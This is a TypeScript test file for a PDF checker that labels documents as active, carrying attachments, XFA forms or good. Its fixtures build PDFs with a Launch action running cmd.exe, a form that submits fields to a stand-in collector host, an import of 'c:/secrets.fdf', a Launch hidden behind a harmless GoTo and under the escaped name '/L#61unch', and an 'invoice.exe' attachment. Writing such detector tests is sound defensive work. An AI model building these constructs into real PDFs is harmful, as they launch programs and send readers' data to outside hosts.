import { PDFDocument, PDFName } from '@cantoo/pdf-lib';
import { describe, expect, it } from 'vitest';
import { openPdf } from './open-pdf.ts';

/** Strings are names. */
type Entry = string | Entry[] | Entries;
interface Entries {
  [key: string]: Entry;
}

/** A PDF of one page with one additional object. */
async function withObject(entries: Entries, { isPacked = false, isLocked = false } = {}): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage();
  const object = document.context.register(document.context.obj(entries));
  document.catalog.set(PDFName.of('OpenAction'), object);
  if (isLocked) document.encrypt({ userPassword: '', ownerPassword: 'only-the-bank' });
  return Buffer.from(await document.save({ useObjectStreams: isPacked }));
}

async function withAttachment(): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage();
  await document.attach(Buffer.from('MZ'), 'invoice.exe', { mimeType: 'application/octet-stream' });
  return Buffer.from(await document.save());
}

const launch = { Type: 'Action', S: 'Launch', Win: { F: 'cmd.exe' } };

describe('a PDF', () => {
  it.each<[string, Entries]>([
    ['starts a program', launch],
    ['sends its fields away', { S: 'SubmitForm', F: 'https://collector.example' }],
    ['takes data from a file', { S: 'ImportData', F: 'c:/secrets.fdf' }],
    ['does so after something harmless', { S: 'GoTo', Next: [{ S: 'GoTo' }, { S: 'Launch' }] }],
    ['has a player', { Type: 'Annot', Subtype: 'RichMedia' }],
    ['starts a program, and has an attachment', { ...launch, F: { Type: 'Filespec', EF: {} } }],
  ])('that %s has active content', async (_what, entries) => {
    expect(await openPdf(await withObject(entries))).toBe('active');
  });

  it.each<[string, Entries]>([
    ['opens a file that it carries', { S: 'GoToE' }],
    ['has a file pinned to a page', { Type: 'Annot', Subtype: 'FileAttachment' }],
    ['describes a file that it carries', { Type: 'Filespec', EF: {} }],
  ])('that %s has attachments, also in an object stream and behind an empty password', async (_what, entries) => {
    expect(await openPdf(await withObject(entries))).toBe('attachments');
    expect(await openPdf(await withObject(entries, { isPacked: true }))).toBe('attachments');
    expect(await openPdf(await withObject(entries, { isLocked: true }))).toBe('attachments');
  });

  it('that is an XFA form is called one, although its parts are attachments', async () => {
    const form = { Fields: [], XFA: ['template', { Type: 'EmbeddedFile' }] };
    expect(await openPdf(await withObject(form))).toBe('xfa');
    expect(await openPdf(await withObject(form, { isPacked: true }))).toBe('xfa');
    expect(await openPdf(await withObject(form, { isLocked: true }))).toBe('xfa');
  });

  it('cannot hide it in an object stream, behind an empty password, or under an escaped name', async () => {
    expect(await openPdf(await withObject(launch, { isPacked: true }))).toBe('active');
    expect(await openPdf(await withObject(launch, { isLocked: true }))).toBe('active');
    const plain = (await withObject(launch)).toString('latin1');
    expect(plain).toContain('/Launch');
    expect(await openPdf(Buffer.from(plain.replace('/Launch', '/L#61unch'), 'latin1'))).toBe('active');
  });

  it('that carries a file has attachments', async () => {
    expect(await openPdf(await withAttachment())).toBe('attachments');
  });

  it.each<[string, Entries]>([
    ['checks its fields with JavaScript', { S: 'JavaScript', JS: 'app.alert(1)' }],
    ['links to a page of the web', { S: 'URI', URI: 'https://www.copperfinch.example' }],
    ['opens at a page', { S: 'GoTo' }],
    ['links to another file', { S: 'GoToR', F: 'terms.pdf' }],
  ])('that %s is good', async (_what, entries) => {
    expect(await openPdf(await withObject(entries))).toBe('good');
  });
});
